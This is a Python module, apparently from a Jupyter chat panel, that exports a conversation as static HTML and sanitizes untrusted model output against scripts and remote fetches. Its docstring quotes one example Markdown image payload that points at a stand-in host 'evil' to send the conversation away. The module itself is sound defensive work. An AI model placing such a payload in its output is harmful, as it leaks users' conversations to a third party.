"""A conversation as safe static HTML: for the panel's output bundle and for HTML export.

A widget's view needs its kernel; GitHub, nbviewer, `nbconvert --to html` and a notebook
reopened without a kernel show only the static outputs. So the panel also puts
`transcript_html(turns)` in its output: the conversation as plain HTML, thumbnails inlined as
`data:` URLs, small enough to live in a notebook.

Model output is untrusted: a notebook's own outputs are trusted by JupyterLab (not
sanitized), and `![](https://evil/?q=...)` in a reply would make every reader's browser send
the conversation away. Text is rendered by `render.markdown_html` (the magic's renderer: raw HTML
escaped, remote images as links, math as MathML) and then passed through `sanitize_html`, an
allowlist that keeps only inert tags, drops every script, event handler, button and style sheet,
keeps MathML only as `render.clean_mathml` rebuilds it, and turns any image that is not an inline
`data:` picture into a link.
"""

from __future__ import annotations

import base64
import binascii
import html
import re
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import datetime
from html.parser import HTMLParser
from typing import Any

from ..media.formats import data_url, is_web_data_url
from ..protocol import FINISH_NOTICES
from ..render import clean_mathml, markdown_html
from .turns import Answer, Turn, split_message

__all__ = [
    "Picture",
    "Said",
    "spoken",
    "safe_markdown_html",
    "sanitize_html",
    "transcript_html",
    "turn_footer",
    "turn_heading",
    "turn_pictures",
    "turns_html",
]

ROLE_LABELS = {"user": "You", "assistant": "Assistant", "system": "System"}
# a transcript stays small: a bigger "thumbnail", or one past the total, is shown as its label
MAX_THUMBNAIL_BYTES = 96_000
MAX_TRANSCRIPT_PICTURE_BYTES = 1_000_000

_ALLOWED = {
    "p": (),
    "br": (),
    "hr": (),
    "em": (),
    "strong": (),
    "del": (),
    "s": (),
    "b": (),
    "i": (),
    "sup": (),
    "sub": (),
    "blockquote": (),
    "ul": (),
    "ol": ("start",),
    "li": (),
    "h1": (),
    "h2": (),
    "h3": (),
    "h4": (),
    "h5": (),
    "h6": (),
    "pre": (),
    "code": ("class",),
    "span": ("class",),
    "div": ("class",),
    "table": (),
    "thead": (),
    "tbody": (),
    "tr": (),
    "th": ("style", "align"),
    "td": ("style", "align"),
    "a": ("href", "title"),
    "img": ("src", "alt", "title"),
    "details": (),
    "summary": (),
}
_VOID = {"br", "hr", "img"}
_DROP_WITH_CONTENT = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "template",
    "noscript",
    "textarea",
    "title",
    "svg",
    "head",
    "select",
    "frame",
    "frameset",
    "applet",
    "button",  # the renderer's Copy button: a transcript has no script to run it
}
_SAFE_HREF = re.compile(r"^(https?://|mailto:|#)", re.IGNORECASE)
_REMOTE = re.compile(r"^\s*(https?:)?//", re.IGNORECASE)
# our own classes and Pygments' short token classes; never a class of the page (`jp-Dialog`)
_CLASS_TOKEN = re.compile(r"(?:snw-|sensenova-|language-)[A-Za-z0-9+#._-]{1,40}|[a-z]{1,3}[0-9]?")
_ALIGN_STYLE = re.compile(r"^\s*text-align:\s*(left|right|center)\s*;?\s*$", re.IGNORECASE)
_LINK_REL = "nofollow noopener noreferrer"


def _known_classes(value: str) -> bool:
    tokens = value.split(" ")
    return len(tokens) <= 4 and all(map(_CLASS_TOKEN.fullmatch, tokens))


def safe_markdown_html(text: str) -> str:
    """Untrusted Markdown as HTML that runs nothing and fetches nothing."""
    return sanitize_html(markdown_html(text))


class _Sanitizer(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.out: list[str] = []
        self._skip = 0  # depth inside a tag dropped with its content
        self._math: list[str] | None = None  # a <math> element's markup, cleaned as one piece
        self._math_depth = 0

    def _in_math(self, tag: str, attrs: list[tuple[str, str | None]] | None, end: bool = False) -> bool:
        """Collect a <math> element whole, then keep what `clean_mathml` rebuilds of it."""
        if self._skip:
            return False
        if self._math is None:
            if tag != "math" or end:
                return False
            self._math, self._math_depth = [], 0
        if end:
            self._math.append(f"</{tag}>")
            self._math_depth -= tag == "math"
            if self._math_depth <= 0:
                self.out.append(clean_mathml("".join(self._math)))
                self._math = None
            return True
        self._math_depth += tag == "math"
        self._math.append(_tag(tag, {name: value or "" for name, value in attrs or []}))
        return True

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self._in_math(tag, attrs):
            return
        if tag in _DROP_WITH_CONTENT:
            self._skip += 1
            return
        if self._skip or tag not in _ALLOWED:
            return
        kept = {name: value or "" for name, value in attrs if name in _ALLOWED[tag]}
        if tag == "img":
            self._image(kept)
            return
        if tag == "a":
            href = kept.pop("href", "")
            if _SAFE_HREF.match(href):
                kept["href"] = href
                kept["rel"] = _LINK_REL
        if "class" in kept and not _known_classes(kept["class"]):
            del kept["class"]
        if "style" in kept and not _ALIGN_STYLE.match(kept["style"]):
            del kept["style"]
        if "align" in kept and kept["align"].lower() not in ("left", "right", "center"):
            del kept["align"]
        if "start" in kept and not kept["start"].isdigit():
            del kept["start"]
        self.out.append(_tag(tag, kept))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _DROP_WITH_CONTENT:
            self.handle_starttag(tag, attrs)
            if tag not in _VOID:
                self.handle_endtag(tag)

    def _image(self, attrs: dict[str, str]) -> None:
        src, alt = attrs.get("src", "").strip(), attrs.get("alt", "")
        if is_web_data_url(src):
            self.out.append(_tag("img", {"src": src, "alt": alt, "style": "max-width: 100%"}))
        elif _REMOTE.match(src) and _SAFE_HREF.match(src):
            # a remote picture would be fetched by every reader: a link asks first
            label = html.escape(alt or src)
            self.out.append(f'<a href="{html.escape(src)}" rel="{_LINK_REL}">[image: {label}]</a>')
        elif alt:
            self.out.append(f"[image: {html.escape(alt)}]")

    def handle_endtag(self, tag: str) -> None:
        if self._in_math(tag, None, end=True):
            return
        if tag in _DROP_WITH_CONTENT:
            self._skip = max(0, self._skip - 1)
        elif not self._skip and tag in _ALLOWED and tag not in _VOID:
            self.out.append(f"</{tag}>")

    def result(self) -> str:
        self.close()
        if self._math:  # an unclosed <math>: what it held, cleaned and closed
            self.out.append(clean_mathml("".join(self._math)))
        return "".join(self.out)

    def handle_data(self, data: str) -> None:
        if self._math is not None:
            self._math.append(html.escape(data, quote=False))
        elif not self._skip:
            self.out.append(html.escape(data, quote=False))


def _tag(name: str, attrs: Mapping[str, str]) -> str:
    rendered = "".join(f' {key}="{html.escape(value)}"' for key, value in attrs.items())
    return f"<{name}{rendered}>"


def sanitize_html(markup: str) -> str:
    """Keep only inert tags and attributes of `markup`; remote images become links."""
    parser = _Sanitizer()
    parser.feed(markup)
    return parser.result()


# ---------------------------------------------------------------------- pictures
@dataclass(frozen=True)
class Picture:
    """One medium of a turn as it can be shown: bytes to inline, a URL to link, or just a label."""

    label: str
    data: bytes | None = None
    url: str | None = None


def _decode(text: str) -> bytes | None:
    if text.startswith("data:"):
        text = text.partition(",")[2]
    try:
        return base64.b64decode(text, validate=True)
    except (binascii.Error, ValueError):
        return None


def _part_picture(part: Mapping[str, Any], number: int) -> Picture:
    kind = str(part.get("type", "media"))
    medium = "video" if kind.startswith("video") else "image"
    label = f"{medium} {number}"
    if kind == "image_base64":
        return Picture(label, data=_decode(str(part.get("image_base64", ""))))
    url = str(part.get(kind, "")) if kind.endswith("_url") else ""
    if url.startswith("data:image/"):
        return Picture(label, data=_decode(url))
    if url:
        return Picture(label, url=url)
    if kind.endswith("_file_id"):
        return Picture(f"{label} (file {part.get(kind, '')})")
    return Picture(label)


@dataclass(frozen=True)
class Said:
    """One speaker's part of a turn as a reader sees it: the person's message, or the answer shown
    (how the transcript and the exports lay a `Turn` out)."""

    role: str
    text: str
    created: float = 0.0
    thumbnails: tuple[bytes, ...] = ()
    media: tuple[Mapping[str, Any], ...] = ()
    answer: Answer = Answer()  # the assistant's part: how it ended (empty for the person's)
    alternatives: int = 1  # how many answers the turn has; `chosen` (from 1) is the one shown
    chosen: int = 1


def spoken(items: Iterable[Turn | Mapping[str, Any]]) -> list[Said]:
    """Turns as the reader's sequence of speakers; wire messages (`conv.messages`) one each."""
    said = []
    for item in items:
        if not isinstance(item, Turn):
            text, media = split_message(item)
            said.append(Said(str(item.get("role", "user")), text, media=tuple(media)))
            continue
        said.append(
            Said("user", item.text, created=item.created, thumbnails=item.thumbnails, media=item.media)
        )
        answer = item.answer
        if answer is not None:
            said.append(
                Said(
                    "assistant",
                    answer.text,
                    created=answer.created,
                    answer=answer,
                    alternatives=len(item.answers),
                    chosen=item.chosen_index + 1,
                )
            )
    return said


def turn_pictures(turn: Said, *, full: bool = True) -> list[Picture]:
    """What to show for a message's media: `thumbnails[i]` stands for `media[i]`.

    `full=True` prefers the picture that was sent (base64 parts); otherwise, or when the part
    holds no bytes (a file id, a URL), the thumbnail. URLs are kept to link, never to fetch.
    """
    pictures = []
    for i in range(max(len(turn.media), len(turn.thumbnails))):
        part = _part_picture(turn.media[i], i + 1) if i < len(turn.media) else Picture(f"image {i + 1}")
        thumb = turn.thumbnails[i] if i < len(turn.thumbnails) else None
        data = part.data if full and part.data else thumb
        pictures.append(Picture(part.label, data=data, url=part.url))
    return pictures


# ---------------------------------------------------------------------- turns
def turn_footer(turn: Said) -> list[str]:
    """The quiet lines under a turn: how it ended, an error, the tokens it took, alternatives."""
    lines = []
    answer = turn.answer
    if answer.finish_reason in FINISH_NOTICES:
        lines.append(FINISH_NOTICES[answer.finish_reason])
    if answer.refused:
        lines.append(f"Refused by the service, not sent again: {answer.error}")
    elif answer.error:
        lines.append(f"Error: {answer.error}")
    if turn.alternatives > 1:
        lines.append(f"Answer {turn.chosen} of {turn.alternatives}")
    usage = answer.usage or {}
    if usage.get("total_tokens") is not None:
        lines.append(
            f"{usage.get('prompt_tokens', '?')} prompt + {usage.get('completion_tokens', '?')} "
            f"completion = {usage['total_tokens']} tokens"
        )
    return lines


def turn_heading(turn: Said) -> str:
    """`Assistant \u00b7 model \u00b7 2026-12-03 14:12`: who spoke, with what, when (local time)."""
    when = (
        f" \u00b7 {datetime.fromtimestamp(turn.created).strftime('%Y-%m-%d %H:%M')}" if turn.created else ""
    )
    model = f" \u00b7 {turn.answer.model}" if turn.answer.model and turn.role == "assistant" else ""
    return f"{ROLE_LABELS.get(turn.role, turn.role.title())}{model}{when}"


def _picture_html(picture: Picture, inline: bool, side: int) -> str:
    label = html.escape(picture.label)
    if picture.data and inline:
        return (
            f'<img src="{data_url(picture.data)}" alt="{label}" title="{label}" '
            f'style="max-width: {side}px; max-height: {side}px; margin: 2px; border-radius: 4px">'
        )
    if picture.url and _SAFE_HREF.match(picture.url):
        return f'<a href="{html.escape(picture.url)}" rel="{_LINK_REL}">[{label}]</a> '
    return f"<span>[{label}]</span> "


def turns_html(
    turns: Iterable[Turn | Mapping[str, Any]],
    *,
    full: bool = True,
    max_picture_bytes: int | None = None,
    total_picture_bytes: int | None = None,
    picture_side: int = 512,
) -> str:
    """The turns as safe HTML with inline styles (shared by the transcript and the HTML page).

    Pictures are inlined while each is at most `max_picture_bytes` and, in order, all together
    at most `total_picture_bytes`; the others are named.
    """
    blocks = []
    left = total_picture_bytes

    def picture_html(picture: Picture) -> str:
        nonlocal left
        size = len(picture.data or b"")
        inline = (max_picture_bytes is None or size <= max_picture_bytes) and (left is None or size <= left)
        if inline and left is not None:
            left -= size
        return _picture_html(picture, inline, picture_side)

    for turn in spoken(turns):
        tint = "#f3f6fb" if turn.role == "user" else "#ffffff"
        role_style = "font-weight: 600; color: #555; font-size: 0.85em"
        parts = [f'<div class="sensenova-role" style="{role_style}">{html.escape(turn_heading(turn))}</div>']
        pictures = turn_pictures(turn, full=full)
        if pictures:
            parts.append(
                '<div class="sensenova-media">' + "".join(picture_html(p) for p in pictures) + "</div>"
            )
        if turn.answer.reasoning:
            parts.append(
                '<details class="sensenova-reasoning" style="color: #666"><summary>Reasoning</summary>'
                f"{safe_markdown_html(turn.answer.reasoning)}</details>"
            )
        parts.append(f'<div class="sensenova-text">{safe_markdown_html(turn.text)}</div>')
        footer = turn_footer(turn)
        if footer:
            parts.append(
                '<div class="sensenova-footer" style="color: #888; font-size: 0.8em">'
                + "<br>".join(html.escape(line) for line in footer)
                + "</div>"
            )
        blocks.append(
            f'<div class="sensenova-turn sensenova-{html.escape(turn.role)}" style="background: {tint}; '
            f'border: 1px solid #e3e3e3; border-radius: 6px; padding: 6px 10px; margin: 6px 0">'
            + "".join(parts)
            + "</div>"
        )
    return "\n".join(blocks)


def transcript_html(
    turns: Iterable[Turn | Mapping[str, Any]],
    *,
    title: str | None = None,
    note: str | None = None,
    max_thumbnail_bytes: int = MAX_THUMBNAIL_BYTES,
    total_thumbnail_bytes: int = MAX_TRANSCRIPT_PICTURE_BYTES,
) -> str:
    """A small static copy of the conversation for a notebook's output (thumbnails inlined).

    Shown wherever the live panel cannot be (GitHub, nbviewer, nbconvert, no kernel); `note`
    is a line such as "Run the cell again to continue this conversation."
    """
    turns = list(turns)
    head = html.escape(title or "SenseNova conversation")
    count = f"{len(turns)} turn{'s' if len(turns) != 1 else ''}"
    lines = [
        '<div class="sensenova-transcript" style="font-family: sans-serif; max-width: 860px">',
        (
            f'<div style="font-weight: 600">{head} '
            f'<span style="color: #888; font-weight: 400">\u00b7 {count}</span></div>'
        ),
    ]
    if note:
        lines.append(f'<div style="color: #888; font-size: 0.85em">{html.escape(note)}</div>')
    lines.append(
        turns_html(
            turns,
            full=False,
            max_picture_bytes=max_thumbnail_bytes,
            total_picture_bytes=total_thumbnail_bytes,
            picture_side=160,
        )
    )
    lines.append("</div>")
    return "\n".join(lines)
